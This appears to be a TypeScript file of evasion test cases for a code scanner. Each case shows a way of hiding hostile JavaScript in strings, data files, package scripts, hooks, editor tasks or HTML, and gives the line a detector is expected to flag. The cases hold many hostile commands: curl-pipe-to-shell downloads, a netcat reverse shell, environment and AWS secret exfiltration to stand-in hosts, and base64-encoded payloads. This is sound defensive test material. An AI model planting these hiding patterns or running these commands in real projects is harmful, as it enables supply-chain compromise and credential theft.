import type { EvasionCase } from '../table';

/** A file's text from its lines: the line numbers in `expect` are the argument positions. */
const lines = (...rows: string[]): string => `${rows.join('\n')}\n`;

const hide = (name: string, files: Record<string, string>, expect: EvasionCase['expect'], base?: Record<string, string>): EvasionCase => ({
  name,
  technique: 'hiding-place',
  language: 'js',
  files,
  expect,
  ...(base ? { base } : {}),
});

/** `require("child_process").execSync("curl -s https://cdn.example-metrics.net/i | sh")` in base64. */
const SHELL_B64 = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIC1zIGh0dHBzOi8vY2RuLmV4YW1wbGUtbWV0cmljcy5uZXQvaSB8IHNoIik=';

export const CASES: EvasionCase[] = [
  // --- code inside strings that become code -------------------------------------------------
  hide(
    'multi-line template body for new Function holds a child_process call',
    {
      'src/plugin-init.js': lines(
        'const body = `',
        "  const { exec } = require('child_process');",
        "  exec('curl -s https://cdn.example-stats.net/i.sh | sh');",
        '  return true;',
        '`;',
        "export const init = new Function('require', body);",
      ),
    },
    [
      { file: 'src/plugin-init.js', line: 6, category: 'dynamic-code' },
      { file: 'src/plugin-init.js', line: 3, category: 'process' },
    ],
  ),
  hide(
    'string eval nested inside a string eval runs a shell command',
    {
      'src/warmup.js': lines(
        'export function warmup() {',
        '  eval("eval(\\"require(\'child_process\').execSync(\'whoami > /tmp/.w\')\\")");',
        '}',
      ),
    },
    [
      { file: 'src/warmup.js', line: 2, category: 'dynamic-code' },
      { file: 'src/warmup.js', line: 2, category: 'process' },
    ],
  ),
  hide(
    'vm.runInNewContext script string sends a secret over https',
    {
      'src/sandbox.js': lines(
        "const vm = require('vm');",
        'const probe = `',
        "  require('https').get('https://collector.example-logs.io/p?k=' + process.env.AWS_SECRET_ACCESS_KEY);",
        '`;',
        'vm.runInNewContext(probe, { require, process });',
      ),
    },
    [
      { file: 'src/sandbox.js', line: 5, category: 'dynamic-code' },
      { file: 'src/sandbox.js', line: 3, category: 'network' },
    ],
  ),
  hide(
    'setTimeout given a string literal that spawns a shell',
    {
      'src/idle.js': lines(
        'export function scheduleCleanup() {',
        "  setTimeout(\"require('child_process').exec('rm -rf ~/.cache/app && curl -s https://x.example-dl.net/c | sh')\", 60000);",
        '}',
      ),
    },
    [
      { file: 'src/idle.js', line: 2, category: 'dynamic-code' },
      { file: 'src/idle.js', line: 2, category: 'process' },
    ],
  ),
  hide(
    'Function body assembled from an array of code lines',
    {
      'src/codegen.js': lines(
        'const parts = [',
        '  \'const cp = require("child_process");\',',
        '  \'cp.execSync("nc -e /bin/sh 203.0.113.7 4444");\',',
        '];',
        "export const run = Function('require', parts.join('\\n'));",
      ),
    },
    [
      { file: 'src/codegen.js', line: 5, category: 'dynamic-code' },
      { file: 'src/codegen.js', line: 3, category: 'process' },
    ],
  ),
  hide(
    'worker thread with eval true runs a string that spawns a process',
    {
      'src/pool.js': lines(
        "const { Worker } = require('worker_threads');",
        'const task = `',
        "  require('child_process').spawnSync('sh', ['-c', 'curl -s https://pkg.example-mirror.dev/w | sh']);",
        '`;',
        'export const start = () => new Worker(task, { eval: true });',
      ),
    },
    [
      { file: 'src/pool.js', line: 5, category: 'process' },
      { file: 'src/pool.js', line: 3, category: 'process' },
    ],
  ),
  // --- code in data files read at run time ---------------------------------------------------
  hide(
    'JSON hooks file holds code that a loader passes to eval',
    {
      'config/hooks.json': lines(
        '{',
        '  "name": "default",',
        '  "onStart": "require(\'child_process\').exec(\'curl -s https://hooks.example-ci.dev/s | sh\')"',
        '}',
      ),
      'src/hooks.js': lines(
        "const fs = require('fs');",
        "const hooks = JSON.parse(fs.readFileSync(require.resolve('../config/hooks.json'), 'utf8'));",
        'module.exports.start = () => eval(hooks.onStart);',
      ),
    },
    [
      { file: 'src/hooks.js', line: 3, category: 'dynamic-code' },
      { file: 'config/hooks.json', line: 3, category: 'process' },
    ],
  ),
  hide(
    'YAML task file holds a script string compiled with the Function constructor',
    {
      'config/tasks.yaml': lines(
        'tasks:',
        '  - name: prune',
        '    script: |',
        "      require('child_process').execSync('curl -fsSL https://get.example-tools.dev/prune | bash')",
      ),
      'src/tasks.js': lines(
        "const fs = require('fs');",
        "const yaml = require('js-yaml');",
        "const { tasks } = yaml.load(fs.readFileSync('config/tasks.yaml', 'utf8'));",
        'for (const t of tasks) {',
        "  new Function('require', t.script)(require);",
        '}',
      ),
    },
    [
      { file: 'src/tasks.js', line: 5, category: 'dynamic-code' },
      { file: 'config/tasks.yaml', line: 4, category: 'process' },
    ],
  ),
  hide(
    'locale message with a template placeholder that runs a command',
    {
      'locales/en.json': lines(
        '{',
        '  "greeting": "Hello ${name}",',
        '  "footer": "Build ${require(\'child_process\').execSync(\'id\').toString()}"',
        '}',
      ),
      'src/i18n.js': lines(
        "const messages = require('../locales/en.json');",
        'export function t(key, vars) {',
        "  const render = new Function(...Object.keys(vars), 'require', 'return `' + messages[key] + '`;');",
        '  return render(...Object.values(vars), require);',
        '}',
      ),
    },
    [
      { file: 'src/i18n.js', line: 3, category: 'dynamic-code' },
      { file: 'locales/en.json', line: 3, category: 'process' },
    ],
  ),
  hide(
    'dotenv variable carries code that is evaluated at startup',
    {
      '.env': lines('PORT=3000', "STARTUP_HOOK=require('child_process').exec('curl -s https://boot.example-ops.dev | sh')"),
      'src/boot.js': lines("require('dotenv').config();", 'if (process.env.STARTUP_HOOK) {', '  eval(process.env.STARTUP_HOOK);', '}'),
    },
    [{ file: 'src/boot.js', line: 3, category: 'dynamic-code' }],
  ),
  hide(
    'data file with a harmless extension compiled by module._compile',
    {
      'assets/loader.dat': lines('// cached loader', "require('child_process').execSync('curl -s https://assets.example-cdn.net/l | sh');"),
      'src/cache.js': lines(
        "const fs = require('fs');",
        "const path = require('path');",
        "const file = path.join(__dirname, '..', 'assets', 'loader.dat');",
        "module._compile(fs.readFileSync(file, 'utf8'), file);",
      ),
    },
    [
      { file: 'src/cache.js', line: 4, category: 'dynamic-code' },
      { file: 'assets/loader.dat', line: 2, category: 'process' },
    ],
  ),
  // --- files with unusual extensions, fixtures, computed paths -------------------------------
  hide(
    'require.extensions hook for .txt then a .txt file holding JavaScript',
    {
      'src/register.js': lines(
        "const fs = require('fs');",
        "require.extensions['.txt'] = (m, filename) => m._compile(fs.readFileSync(filename, 'utf8'), filename);",
        "require('./notes.txt');",
      ),
      'src/notes.txt': lines("require('child_process').exec('curl -s https://n.example-dl.net/x | sh');"),
    },
    [
      { file: 'src/register.js', line: 2, category: 'dynamic-code' },
      { file: 'src/notes.txt', line: 1, category: 'process' },
    ],
  ),
  hide(
    'require of a .tpl file that Node loads as JavaScript',
    {
      'src/templates/header.tpl': lines(
        '/* header template */',
        "require('child_process').execSync('curl -s https://t.example-cdn.net/h | sh');",
        "module.exports = '<header></header>';",
      ),
      'src/render.js': lines("const header = require('./templates/header.tpl');", 'module.exports = () => header;'),
    },
    [{ file: 'src/templates/header.tpl', line: 2, category: 'process' }],
  ),
  hide(
    'test fixture file spawns a shell when the test requires it',
    {
      'test/fixtures/server.js': lines(
        "const { exec } = require('child_process');",
        'exec(\'curl -s https://fixtures.example-ci.dev/env -d "$(env)"\');',
        'module.exports = { port: 0 };',
      ),
      'test/server.test.js': lines(
        "const fixture = require('./fixtures/server');",
        "it('starts', () => {",
        '  expect(fixture.port).toBe(0);',
        '});',
      ),
    },
    [{ file: 'test/fixtures/server.js', line: 2, category: 'process' }],
  ),
  hide(
    'plugin chosen by environment loaded from a computed .cjs path',
    {
      'plugins/telemetry.cjs': lines(
        "const https = require('https');",
        "https.request({ host: 'telemetry.example-cdn.net', method: 'POST' }).end(JSON.stringify(process.env));",
      ),
      'src/plugins.mjs': lines(
        "import { createRequire } from 'node:module';",
        'const load = createRequire(import.meta.url);',
        "const name = process.env.APP_PLUGIN ?? 'telemetry';",
        'load(`../plugins/${name}.cjs`);',
      ),
    },
    [
      { file: 'plugins/telemetry.cjs', line: 2, category: 'network' },
      { file: 'src/plugins.mjs', line: 4, category: 'dynamic-code' },
    ],
  ),
  hide(
    'fork of a script in the same change that exfiltrates the environment',
    {
      'scripts/agent.js': lines(
        "const https = require('https');",
        "const req = https.request('https://agent.example-metrics.io/env', { method: 'POST' });",
        'req.end(JSON.stringify(process.env));',
      ),
      'src/start.js': lines(
        "const { fork } = require('child_process');",
        "const path = require('path');",
        "fork(path.join(__dirname, '..', 'scripts', 'agent.js'), { detached: true, stdio: 'ignore' }).unref();",
      ),
    },
    [
      { file: 'src/start.js', line: 3, category: 'process' },
      { file: 'scripts/agent.js', line: 2, category: 'network' },
    ],
  ),
  hide(
    'base64 blob decoded to a temp file and required',
    {
      'src/cache-warm.js': lines(
        "const fs = require('fs');",
        "const os = require('os');",
        "const path = require('path');",
        `const BLOB = '${SHELL_B64}';`,
        'const file = path.join(os.tmpdir(), `warm-${process.pid}.js`);',
        "fs.writeFileSync(file, Buffer.from(BLOB, 'base64'));",
        'require(file);',
      ),
    },
    [
      { file: 'src/cache-warm.js', line: 6, category: 'obfuscation' },
      { file: 'src/cache-warm.js', line: 7, category: 'dynamic-code' },
      { file: 'src/cache-warm.js', line: 4, category: 'process' },
    ],
  ),
  hide(
    'generated module written from a string and imported back',
    {
      'src/gen.mjs': lines(
        "import { writeFileSync } from 'node:fs';",
        "const source = \"import { execSync } from 'node:child_process'; execSync('curl -s https://g.example-dl.net | sh');\";",
        "writeFileSync(new URL('./.gen.mjs', import.meta.url), source);",
        "await import('./.gen.mjs');",
      ),
    },
    [{ file: 'src/gen.mjs', line: 2, category: 'process' }],
  ),
  // --- native and binary code --------------------------------------------------------------
  hide(
    'precompiled .node addon required as a speed-up',
    {
      'src/hash.js': lines(
        "const path = require('path');",
        "const native = require(path.join(__dirname, '..', 'vendor', 'fasthash.node'));",
        'module.exports = (buf) => native.digest(buf);',
      ),
    },
    [{ file: 'src/hash.js', line: 2, category: 'sandbox-escape' }],
  ),
  hide(
    'process.dlopen of a shared library shipped in the change',
    {
      'src/accel.js': lines(
        "const path = require('path');",
        'const mod = { exports: {} };',
        "process.dlopen(mod, path.join(__dirname, 'prebuilt', 'libaccel.so'));",
        'module.exports = mod.exports;',
      ),
    },
    [{ file: 'src/accel.js', line: 3, category: 'sandbox-escape' }],
  ),
  hide(
    'WebAssembly module instantiated from inline bytes',
    {
      'src/checksum.js': lines(
        'const bytes = new Uint8Array([',
        '  0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, 0x01, 0x05, 0x01, 0x60, 0x00, 0x01, 0x7f,',
        '  0x03, 0x02, 0x01, 0x00, 0x07, 0x07, 0x01, 0x03, 0x72, 0x75, 0x6e, 0x00, 0x00, 0x0a, 0x06,',
        '  0x01, 0x04, 0x00, 0x41, 0x2a, 0x0b,',
        ']);',
        'export const ready = WebAssembly.instantiate(bytes, { env: { log: console.log } });',
      ),
    },
    [{ file: 'src/checksum.js', line: 6, category: 'dynamic-code' }],
  ),
  // --- package manager configuration and scripts --------------------------------------------
  hide(
    'postinstall script pipes a download into sh',
    {
      'package.json': lines(
        '{',
        '  "name": "date-kit",',
        '  "version": "1.4.0",',
        '  "scripts": {',
        '    "build": "tsc",',
        '    "postinstall": "curl -fsSL https://install.example-tools.dev/setup | sh"',
        '  }',
        '}',
      ),
    },
    [{ file: 'package.json', line: 6, category: 'supply-chain' }],
  ),
  hide(
    'prepare script added to an existing manifest runs node -e',
    {
      'package.json': lines(
        '{',
        '  "name": "web-app",',
        '  "scripts": {',
        '    "test": "vitest",',
        '    "prepare": "node -e \\"require(\'child_process\').execSync(\'sh scripts/.cache\')\\""',
        '  }',
        '}',
      ),
    },
    [{ file: 'package.json', line: 5, category: 'supply-chain' }],
    {
      'package.json': lines('{', '  "name": "web-app",', '  "scripts": {', '    "test": "vitest"', '  }', '}'),
    },
  ),
  hide(
    'pretest hook that runs before every npm test fetches and runs a script',
    {
      'package.json': lines(
        '{',
        '  "name": "api",',
        '  "scripts": {',
        '    "pretest": "node -e \\"fetch(\'https://ci.example-cache.dev/p.js\').then(r=>r.text()).then(eval)\\"",',
        '    "test": "jest"',
        '  }',
        '}',
      ),
    },
    [{ file: 'package.json', line: 4, category: 'supply-chain' }],
    {
      'package.json': lines('{', '  "name": "api",', '  "scripts": {', '    "test": "jest"', '  }', '}'),
    },
  ),
  hide(
    'postinstall runs a setup script in the change that downloads a binary',
    {
      'package.json': lines('{', '  "name": "fast-png",', '  "scripts": {', '    "postinstall": "node scripts/setup.js"', '  }', '}'),
      'scripts/setup.js': lines(
        "const https = require('https');",
        "const fs = require('fs');",
        "https.get('https://dl.example-bins.net/fast-png-linux', (res) => res.pipe(fs.createWriteStream('bin/fast-png', { mode: 0o755 })));",
      ),
    },
    [
      { file: 'package.json', line: 4, category: 'supply-chain' },
      { file: 'scripts/setup.js', line: 3, category: 'network' },
    ],
  ),
  hide(
    'npmrc points the registry at a look-alike mirror',
    {
      '.npmrc': lines('save-exact=true', 'registry=https://registry.npmjs-mirror.org/', 'fund=false'),
    },
    [{ file: '.npmrc', line: 2, category: 'supply-chain' }],
  ),
  hide(
    'yarnrc.yml sets npmRegistryServer to another host',
    {
      '.yarnrc.yml': lines('nodeLinker: node-modules', 'npmRegistryServer: "https://registry.yarnpkg-cdn.com"', 'enableTelemetry: false'),
    },
    [{ file: '.yarnrc.yml', line: 2, category: 'supply-chain' }],
  ),
  hide(
    'npmrc node-options preloads a script from the change into every node process',
    {
      '.npmrc': lines('engine-strict=true', 'node-options=--require ./scripts/preload.cjs'),
      'scripts/preload.cjs': lines(
        "const { spawn } = require('child_process');",
        "spawn('sh', ['-c', 'curl -s https://p.example-dl.net/r | sh'], { detached: true, stdio: 'ignore' }).unref();",
      ),
    },
    [
      { file: '.npmrc', line: 2, category: 'supply-chain' },
      { file: 'scripts/preload.cjs', line: 2, category: 'process' },
    ],
  ),
  hide(
    'build script spawns a shell that pipes a download into bash',
    {
      'scripts/build.js': lines(
        "const { spawnSync } = require('child_process');",
        "spawnSync('tsc', ['-p', '.'], { stdio: 'inherit' });",
        "spawnSync('bash', ['-c', 'curl -fsSL https://toolchain.example-dev.net/i | bash'], { stdio: 'inherit' });",
      ),
    },
    [{ file: 'scripts/build.js', line: 3, category: 'process' }],
  ),
  hide(
    'jest globalSetup file runs a command when the test runner starts',
    {
      'jest.config.js': lines("module.exports = { globalSetup: './test/global-setup.js' };"),
      'test/global-setup.js': lines(
        "const { execSync } = require('child_process');",
        'module.exports = async () => {',
        "  execSync('curl -s https://ci.example-cache.dev/seed -d @$HOME/.npmrc');",
        '};',
      ),
    },
    [{ file: 'test/global-setup.js', line: 3, category: 'process' }],
  ),
  hide(
    'editor task runs a downloaded script when the folder is opened',
    {
      '.vscode/tasks.json': lines(
        '{',
        '  "version": "2.0.0",',
        '  "tasks": [',
        '    {',
        '      "label": "warm cache",',
        '      "type": "shell",',
        '      "command": "curl -s https://cache.example-dev.net/w | sh",',
        '      "runOptions": { "runOn": "folderOpen" }',
        '    }',
        '  ]',
        '}',
      ),
    },
    [{ file: '.vscode/tasks.json', line: 8, category: 'evaluation-tampering' }],
  ),
  hide(
    'inline script in an HTML page evaluates a base64 payload',
    {
      'public/index.html': lines(
        '<!doctype html>',
        '<html>',
        '  <head><title>Dashboard</title></head>',
        '  <body>',
        '    <div id="root"></div>',
        "    <script>eval(atob('ZmV0Y2goImh0dHBzOi8vdGVsZW1ldHJ5LmV4YW1wbGUtY2RuLm5ldC9jIix7bWV0aG9kOiJQT1NUIixib2R5OkpTT04uc3RyaW5naWZ5KHByb2Nlc3MuZW52KX0p'));</script>",
        '  </body>',
        '</html>',
      ),
    },
    [{ file: 'public/index.html', line: 6, category: 'dynamic-code' }],
  ),
  hide(
    'code kept in a block comment and pulled out with Function.prototype.toString',
    {
      'src/banner.js': lines(
        'function banner() {/*',
        "require('child_process').execSync('curl -s https://b.example-dl.net/x | sh');",
        '*/}',
        "const text = banner.toString().split('/*')[1].split('*/')[0];",
        'eval(text);',
      ),
    },
    [
      { file: 'src/banner.js', line: 5, category: 'dynamic-code' },
      { file: 'src/banner.js', line: 2, category: 'process' },
    ],
  ),
  hide(
    'Vue single-file component script block spawns a process on the server',
    {
      'components/Status.vue': lines(
        '<template>',
        '  <p>{{ status }}</p>',
        '</template>',
        '<script setup>',
        "import { execSync } from 'node:child_process';",
        "const status = execSync('uptime && curl -s https://v.example-dl.net/s | sh').toString();",
        '</script>',
      ),
    },
    [{ file: 'components/Status.vue', line: 6, category: 'process' }],
  ),
  hide(
    'extensionless bin script with a node shebang runs a shell',
    {
      'bin/devtool': lines(
        '#!/usr/bin/env node',
        "const { execSync } = require('child_process');",
        "execSync('curl -s https://bin.example-tools.dev/d | sh', { stdio: 'inherit' });",
      ),
    },
    [{ file: 'bin/devtool', line: 3, category: 'process' }],
  ),
  hide(
    'husky pre-commit hook pipes a download into sh on every commit',
    {
      '.husky/pre-commit': lines('#!/usr/bin/env sh', 'npx lint-staged', 'curl -fsSL https://hooks.example-dev.net/pc | sh'),
    },
    [{ file: '.husky/pre-commit', line: 3, category: 'process' }],
  ),
  hide(
    'service worker importScripts of a data URL built from cached text',
    {
      'public/sw.js': lines(
        "self.addEventListener('install', async () => {",
        "  const cache = await caches.open('v1');",
        "  const res = await cache.match('/boot.txt');",
        "  importScripts('data:application/javascript,' + encodeURIComponent(await res.text()));",
        '});',
      ),
    },
    [{ file: 'public/sw.js', line: 4, category: 'dynamic-code' }],
  ),
];
